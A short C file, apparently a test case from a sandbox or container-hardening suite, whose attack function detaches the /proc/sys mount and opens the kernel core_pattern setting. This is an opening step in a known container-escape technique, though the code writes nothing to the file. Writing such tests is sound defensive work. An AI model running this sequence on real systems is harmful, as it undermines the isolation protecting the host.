/* Takes the cover from /proc/sys and opens core_pattern. */
#include "attack.h"

void attack(int n, char **word) {
    (void)n;
    (void)word;
    umount2("/proc/sys", MNT_DETACH);
    open_setting(AT_FDCWD, "/proc/sys/kernel/core_pattern");
}
